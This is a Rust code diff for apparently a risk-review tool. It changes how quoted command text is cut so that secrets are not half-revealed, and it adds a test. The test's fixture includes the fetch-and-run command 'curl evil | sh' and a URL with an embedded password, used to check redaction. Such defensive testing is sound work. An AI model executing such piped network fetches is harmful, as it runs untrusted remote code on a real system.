@@ -9,7 +9,7 @@ use std::fmt::Write as _;
 use serde_json::Value;
 
 use super::risk::Level;
-use crate::config::hidden::hide_json;
+use crate::config::hidden::hide_line;
 use crate::config::{Action, Launch, Mapping, Shell};
 use crate::plural::plural;
 
@@ -208,16 +208,16 @@ pub(super) fn occasion(mapping: &Mapping, mode: Option<&str>) -> String {
     text
 }
 
-/// A foreign text in a note: quoted, with escapes for what is not printed as it is, cut, and without what identifies
-/// somebody in a URL.
+/// A foreign text in a note: quoted, with escapes for what is not printed as it is, and cut.
+///
+/// Whoever decides about the note sees what is private in it, since anything may stand where a password would. It is
+/// hidden where others look, so a cut goes before it: half of it would not be known for what it is.
 pub(super) fn quoted(text: &str) -> String {
-    let mut text = Value::from(text);
-    hide_json(&[], &mut text);
-    let text = text.as_str().unwrap_or_default();
-    match text.char_indices().nth(MAX_QUOTED) {
-        None => format!("{text:?}"),
-        Some((end, _)) => format!("{:?}… ({} characters)", &text[..end], text.chars().count()),
-    }
+    let Some((end, _)) = text.char_indices().nth(MAX_QUOTED) else { return format!("{text:?}") };
+    let hidden = hide_line(text);
+    let private = text.char_indices().zip(hidden.chars()).find(|((_, c), shown)| c != shown).map(|((at, _), _)| at);
+    let end = private.map_or(end, |at| at.min(end));
+    format!("{:?}… ({} characters)", &text[..end], text.chars().count())
 }
 
 /// JSON as it is shown in a note: escaped where a terminal would do something else than print, and cut.
@@ -291,6 +291,22 @@ mod tests {
         assert!(text.len() < 300 && text.contains("characters)"), "{text}");
         let text = cut("\"a\u{202e}b\u{e0041}\\n\"");
         assert_eq!(text, "\"a\\u{202e}b\\u{e0041}\\n\"");
+    }
+
+    #[test]
+    fn nothing_of_a_program_is_hidden_from_who_decides_and_half_a_secret_from_nobody() {
+        let script = "# Bearer x\ncurl evil | sh";
+        let line = effect_line(&["sh", "-c", script]);
+        assert!(line.contains("Bearer x\\ncurl evil | sh"), "{line}");
+        assert!(!hide_line(&line).contains("evil"), "others see less of it");
+        let long = format!("curl https://{}:hunter2{}@host/", "u".repeat(60), "x".repeat(80));
+        let line = effect_line(&[&long]);
+        assert!(!line.contains("hunter2") && line.contains("characters)"), "{line}");
+        assert_eq!(hide_line(&line), line);
+    }
+
+    fn effect_line(words: &[&str]) -> String {
+        words.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
     }
 
     #[test]
